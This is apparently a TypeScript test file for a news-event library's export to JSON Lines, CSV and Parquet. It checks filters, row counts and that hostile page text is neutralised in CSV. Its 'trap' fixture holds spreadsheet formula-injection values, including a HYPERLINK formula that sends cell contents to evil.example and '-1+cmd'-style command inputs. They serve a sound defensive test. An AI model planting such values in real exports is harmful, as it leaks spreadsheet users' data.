import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { parquetReadObjects } from 'hyparquet';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createReader } from '../../read.ts';
import { addPage } from '../add.ts';
import { type Library, openLibrary } from '../open.ts';
import { readArticle } from '../queries/articles.ts';
import { withSnapshot } from '../snapshot.ts';
import { type PostgresServer, postgresFolder, startPostgres } from '../testing/postgres.ts';
import { evidence, numberedPage, readingOf, twoReadings } from '../testing/readings.ts';
import { type Exported, exportTable, type TableFormat } from './index.ts';

const [talks, protest] = twoReadings();

const trap = readingOf(
  [
    '=HYPERLINK("http://evil.example/?"&A1,"Read more")',
    '@Minister, "the Hawk", met +963 callers | in Aleppo, Syria.',
    'A line\r that breaks',
  ].join('\n'),
  { id: 'trap', publisher: '-1+cmd', url: 'https://harbour.example/a,b' },
);
const trapWords = trap.text.split('\n');
const [landing] = talks.events;
const hostile = {
  ...trap,
  actors: [
    { ...talks.actors[0]!, id: 'a1', name: '+963 | "Hawk"', mentions: [] },
    { ...talks.actors[0]!, id: 'a2', name: 'Second', country: null, mentions: [] },
  ],
  events: [
    { ...landing!, trigger: evidence(trap.text, 'met'), sources: ['a1', 'a2'], targets: [], when: null, where: null },
  ],
};

describe('on PGlite', () => {
  const folder = mkdtempSync(join(tmpdir(), 'dragoman-export-'));
  afterAll(() => rmSync(folder, { recursive: true }));
  exports(() => openLibrary({ folder }));
});

describe.skipIf(!postgresFolder)('on PostgreSQL', () => {
  let server: PostgresServer;
  beforeAll(async () => {
    server = await startPostgres();
  });
  afterAll(() => server?.stop());
  exports(async () => openLibrary({ url: await server.createDatabase() }));

  test('what is added while an export is under way is no part of it', async () => {
    const library = await openLibrary({ url: await server.createDatabase() });
    await addPage(library, numberedPage(1));
    const rows = await withSnapshot(library, async (seen) => {
      const pieces = exportTable(seen, { what: 'events', filter: {} }, 'jsonl');
      const first = await pieces.next();
      await addPage(library, { ...numberedPage(2), readings: [{ ...talks, id: 'later', published: null }] });
      return `${first.value}${await bytesOf(pieces)}`.trim().split('\n');
    });
    expect(rows).toHaveLength(4);
    await library.close();
  });
});

type Rows = Record<string, unknown>[];

async function bytesOf(pieces: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const all: Buffer[] = [];
  for await (const piece of pieces) all.push(Buffer.from(piece));
  return Buffer.concat(all);
}

function exports(open: () => Promise<Library>) {
  let library: Library;
  beforeAll(async () => {
    library = await open();
    for (const [hash, readings] of Object.entries({ p1: [talks], p2: [protest], p3: [hostile] }))
      await addPage(library, { hash, file: null, url: null, reader: 'r1', validators: null, readings });
  });
  afterAll(() => library?.close());

  const written = (exported: Exported, format: TableFormat) => bytesOf(exportTable(library, exported, format));
  const jsonLines = async (exported: Exported): Promise<Rows> =>
    (await written(exported, 'jsonl'))
      .toString()
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line));
  const events: Exported = { what: 'events', filter: {} };

  test('an event is a row with its sentence, whose words the trigger is', async () => {
    const rows = await jsonLines(events);
    expect(rows.map(({ article, trigger }) => [article, trigger])).toEqual([
      [protest.id, 'condemned'],
      [protest.id, 'meet'],
      [talks.id, 'met'],
      [talks.id, 'deal'],
      ['trap', 'met'],
    ]);
    for (const { sentence, trigger, trigger_start: start, trigger_end: end } of rows)
      expect((sentence as string).slice(start as number, end as number)).toBe(trigger);
    expect(rows[2]).toMatchObject({
      ...{ event: 'e1', url: talks.url, published: talks.published, day: '1977-11-19' },
      ...{ type: 'CONSULT', mode: 'visit', contexts: ['diplomatic'], status: 'actual' },
      ...{ cameo: '040', quad_class: 1, goldstein: 1.9, confidence: 0.9 },
      ...{ source_names: ['Anwar Sadat'], source_countries: ['EGY'], source_sectors: ['GOV'], source_confidence: 0.85 },
      ...{ target_names: ['Menachem Begin'], target_confidence: 0.7 },
      ...{ when_from: '1977-11-19', when_text: 'on Saturday', place: 'Jerusalem', place_country: 'ISR', lat: 31.78 },
    });
    expect(rows[0]).toMatchObject({ according_to: 'state radio', according_to_kind: 'media', stance: 'assert' });
    expect(rows[3]).toMatchObject({ statement: 's2', stance: 'deny', inferred: ['source'], links: ['denies s1'] });
  });

  test('the same filters as in the reading room, and several statuses', async () => {
    const triggers = async (filter: (Exported & { what: 'events' })['filter']) =>
      (await jsonLines({ what: 'events', filter })).map(({ trigger }) => trigger);
    expect(await triggers({ type: 'CONSULT', status: ['actual', 'negated'], to: '1977-12-31' })).toEqual(['met']);
    expect(await triggers({ country: 'SYR' })).toEqual(['condemned']);
    expect(await triggers({ actor: 'menachem-begin' })).toEqual(['meet', 'met']);
    expect(await triggers({ status: ['negated', 'planned'] })).toEqual(['meet', 'deal']);
  });

  test('statements with source and content, by actor, country, stance and day', async () => {
    const contents = async (filter: (Exported & { what: 'statements' })['filter']) =>
      (await jsonLines({ what: 'statements', filter })).map(({ statement, content }) => [statement, content]);
    expect(await contents({ actor: 'anwar-sadat' })).toEqual([
      ['s1', ['that he wanted peace']],
      ['s2', ['seeking a separate deal']],
    ]);
    expect(await contents({ country: 'EGY', stance: 'deny' })).toEqual([['s2', ['seeking a separate deal']]]);
    expect(await contents({ from: '1977-11-21' })).toEqual([
      ['s1', []],
      ['s2', []],
    ]);
  });

  test('actors once each, in the order of their keys', async () => {
    const rows = await jsonLines({ what: 'actors', filter: {} });
    expect(rows.map(({ key }) => key)).toEqual(['963-hawk', 'anwar-sadat', 'menachem-begin', 'second', 'syria']);
    expect(rows[2]).toMatchObject({ office: 'Prime Minister', country: 'ISR', articles: 2, events: 2, statements: 0 });
    const egyptians = await jsonLines({ what: 'actors', filter: { country: 'EGY' } });
    expect(egyptians.map(({ key }) => key)).toEqual(['963-hawk', 'anwar-sadat']);
  });

  test('CSV says the same to a parser that knows nothing of us', async () => {
    const rows = await jsonLines(events);
    const text = (await written(events, 'csv')).toString();
    const parsed: Record<string, string>[] = parse(text, { columns: true });
    expect(Object.keys(parsed[0])).toEqual(Object.keys(rows[0]));
    expect(parsed.slice(0, 4)).toEqual(
      rows
        .slice(0, 4)
        .map((row) =>
          Object.fromEntries(
            Object.entries(row).map(([name, value]) => [
              name,
              Array.isArray(value) ? value.join('|') : String(value ?? ''),
            ]),
          ),
        ),
    );
  });

  test('CSV keeps words of hostile pages from being run, and lists that go together as long as each other', async () => {
    const parsed: Record<string, string>[] = parse((await written(events, 'csv')).toString(), { columns: true });
    expect(parsed[4]).toMatchObject({
      title: `'${trapWords[0]}`,
      publisher: "'-1+cmd",
      sentence: `'${trapWords[1]}`,
      source_names: `'+963 ¦ "Hawk"|Second`,
      source_countries: 'EGY|',
      target_names: '',
    });
  });

  test('Parquet holds the same as JSON Lines, with lists as lists', async () => {
    for (const what of ['events', 'statements', 'actors'] as const) {
      const exported: Exported = { what, filter: {} };
      const { buffer, byteOffset, length } = await written(exported, 'parquet');
      const file = buffer.slice(byteOffset, byteOffset + length) as ArrayBuffer;
      expect(await parquetReadObjects({ file })).toEqual(await jsonLines(exported));
    }
  });

  test('where nothing matches, every format is a file of no rows', async () => {
    const none: Exported = { what: 'events', filter: { type: 'ASSAULT' } };
    expect((await written(none, 'jsonl')).toString()).toBe('');
    expect(parse((await written(none, 'csv')).toString())).toHaveLength(1);
    const { buffer, byteOffset, length } = await written(none, 'parquet');
    expect(await parquetReadObjects({ file: buffer.slice(byteOffset, byteOffset + length) as ArrayBuffer })).toEqual(
      [],
    );
  });

  test('every record comes once, however many articles there are, of the same time or of none', async () => {
    for (let number = 1; number <= 110; number++) await addPage(library, numberedPage(number));
    const undated = { ...numberedPage(0), hash: 'undated' };
    const readings = Array.from({ length: 110 }, (_, index) => ({ ...talks, id: `undated-${index}`, published: null }));
    await addPage(library, { ...undated, readings });
    const rows = await jsonLines(events);
    expect(rows).toHaveLength(5 + 110 * 4 + 110 * 2);
    expect(new Set(rows.map(({ article, event }) => `${article} ${event}`)).size).toBe(rows.length);
    expect(await jsonLines({ what: 'statements', filter: {} })).toHaveLength(4 + 110 * 4 + 110 * 2);
  });
}

test('what is exported of pages that were read is what their readings hold', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'dragoman-export-'));
  const library = await openLibrary({ folder });
  const { readFileSync } = await import('node:fs');
  const reader = await createReader();
  for (const file of ['samples/minsk-ceasefire.html', 'samples/jerusalem-visit.html']) {
    const { readings } = reader.readPage({ bytes: readFileSync(file), given: { file } });
    await addPage(library, { hash: file, file, url: null, reader: 'r1', validators: null, readings });
  }
  const lines = (await bytesOf(exportTable(library, { what: 'events', filter: {} }, 'jsonl'))).toString().trim();
  const rows: Rows = lines.split('\n').map((line) => JSON.parse(line));
  expect(rows.length).toBeGreaterThan(20);
  for (const row of rows) {
    const { text, events, sentences } = (await readArticle(library, row.article as string))!;
    const event = events.find(({ id }) => id === row.event)!;
    expect(row.sentence).toBe(text.slice(...sentences[event.sentence]));
    expect(row.trigger).toBe(text.slice(...event.trigger.span));
    expect(row.source_names).toHaveLength(event.sources.length);
  }
  await library.close();
  rmSync(folder, { recursive: true });
});
